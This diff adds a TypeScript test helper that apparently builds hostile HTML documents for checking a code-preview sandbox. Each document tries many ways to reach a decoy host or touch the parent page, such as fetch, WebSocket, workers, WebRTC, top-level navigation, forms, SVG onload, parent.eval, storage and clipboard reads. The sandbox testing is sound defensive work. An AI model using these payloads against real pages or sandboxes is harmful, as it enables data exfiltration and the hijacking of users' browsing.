@@ -108,6 +108,88 @@ function javascriptAddresses(run: string): readonly string[] {
   ]
 }
 
+/**
+ * Documents for the preview of code, each with an element `h1`. A successful attack sends a request to `decoy`, or sets
+ * `window.hostileRan` of the page.
+ */
+export function hostileDocuments(decoy: string): readonly string[] {
+  const title = `<h1>shown</h1><script>parent.postMessage({ hostileRan: 1 }, '*')</script>`
+  const attempts = [
+    `fetch('${decoy}/fetch')`,
+    `new XMLHttpRequest().open('GET', '${decoy}/xhr')`,
+    `(() => { const x = new XMLHttpRequest(); x.open('GET', '${decoy}/xhr'); x.send() })()`,
+    `new WebSocket('${decoy.replace('http', 'ws')}/socket')`,
+    `new EventSource('${decoy}/events')`,
+    `navigator.sendBeacon('${decoy}/beacon', 'x')`,
+    `new Image().src = '${decoy}/image.png'`,
+    `new Audio('${decoy}/audio.mp3').play()`,
+    `import('${decoy}/module.js')`,
+    `new Worker('${decoy}/worker.js')`,
+    `new Worker(URL.createObjectURL(new Blob(["fetch('${decoy}/worker')"])))`,
+    `navigator.serviceWorker.register('${decoy}/service-worker.js')`,
+    ...[
+      ['script', `src: '${decoy}/script.js'`],
+      ['link', `rel: 'stylesheet', href: '${decoy}/a.css'`],
+      ['link', `rel: 'prefetch', href: '${decoy}/b'`],
+      ['link', `rel: 'preconnect', href: '${decoy}'`],
+    ].map(
+      ([name, members]) => `document.head.append(Object.assign(document.createElement('${name}'), { ${members} }))`,
+    ),
+    `new FontFace('x', 'url(${decoy}/font.woff2)').load()`,
+    `(() => {
+      const urls = 'turn:${new URL(decoy).host}?transport=tcp'
+      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }] })
+      peer.createDataChannel('x')
+      void peer.setLocalDescription()
+    })()`,
+    `new WebTransport('${decoy.replace('http:', 'https:')}/transport')`,
+    `open('${decoy}/window')`,
+    `open('${decoy}/top', '_top')`,
+    `top.location = '${decoy}/location'`,
+    `top.location.href = '${decoy}/href'`,
+    `parent.location.replace('${decoy}/replace')`,
+    `parent.hostileRan = 1`,
+    `parent.document.body.append('x')`,
+    `parent.eval('window.hostileRan = 1')`,
+    `frameElement.ownerDocument.defaultView.hostileRan = 1`,
+    `localStorage.setItem('x', 'y')`,
+    `sessionStorage.setItem('x', 'y')`,
+    `document.cookie = 'x=y'`,
+    `indexedDB.open('x')`,
+    `caches.open('x')`,
+    `new BroadcastChannel('x').postMessage('y')`,
+    `alert(1)`,
+    `document.documentElement.requestFullscreen()`,
+    `navigator.clipboard.readText()`,
+    `Object.assign(document.createElement('a'), { href: '${decoy}/a', download: 'x', ping: '${decoy}/ping' }).click()`,
+    `Object.assign(document.createElement('a'), { href: '${decoy}/a', target: '_blank' }).click()`,
+    `Object.assign(document.createElement('a'), { href: '${decoy}/a', target: '_top' }).click()`,
+  ]
+  return [
+    title + attempts.map((attempt) => `<script>try { void ${attempt} } catch {}</script>`).join('\n'),
+    `${title}<script>location = '${decoy}/location'</script>`,
+    `${title}<script>location = 'data:text/html,<img src=${decoy}/data.png>'</script>`,
+    `${title}<script>const own = new Blob(['<script>parent.hostileRan=1'], { type: 'text/html' })\n` +
+      `location = URL.createObjectURL(own)</script>`,
+    `${title}<meta http-equiv="refresh" content="0;url=${decoy}/refresh">`,
+    `${title}<base href="${decoy}/"><img src="base.png"><a href="x" target="_top">x</a>` +
+      `<script>document.links[0].click()</script>`,
+    `${title}<form action="${decoy}/form" method="post"><input name="x"></form>` +
+      `<script>document.forms[0].submit()</script>`,
+    `${title}<form action="${decoy}/form" target="_top"></form><script>document.forms[0].requestSubmit()</script>`,
+    `${title}<iframe src="${decoy}/frame"></iframe><iframe srcdoc="<img src='${decoy}/srcdoc.png'>"></iframe>` +
+      `<object data="${decoy}/object"></object><embed src="${decoy}/embed">` +
+      `<video src="${decoy}/video" autoplay></video>`,
+    `${title}<link rel="stylesheet" href="${decoy}/style.css"><style>@import url(${decoy}/import.css);` +
+      `body { background: url(${decoy}/background.png) }</style><link rel="dns-prefetch" href="${decoy}">`,
+    `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${decoy}/onload')">` +
+      `<image href="${decoy}/svg.png"/><use href="${decoy}/use.svg#a"/><script href="${decoy}/svg.js"/></svg>${title}`,
+    `${title}<script type="speculationrules">` +
+      `{"prefetch":[{"source":"list","urls":["${decoy}/speculation"]}]}</script>` +
+      `<script>onbeforeunload = () => 'stay'; history.pushState(0, '', '/x'); location.reload()</script>`,
+  ]
+}
+
 /** Texts that are expensive for parsers of Markdown. */
 export const heavyTexts: readonly (readonly [string, string])[] = [
   ['a line of a megabyte', 'word '.repeat(200_000)],
